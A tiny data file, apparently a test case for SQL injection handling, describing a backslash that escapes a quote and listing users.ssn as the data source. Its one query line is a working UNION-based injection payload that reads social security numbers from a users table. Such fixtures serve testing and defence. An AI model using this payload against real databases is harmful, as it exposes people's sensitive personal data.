story: A backslash escapes a quote
sources: users.ssn
---
SELECT 'a\'' UNION SELECT ssn FROM users -- '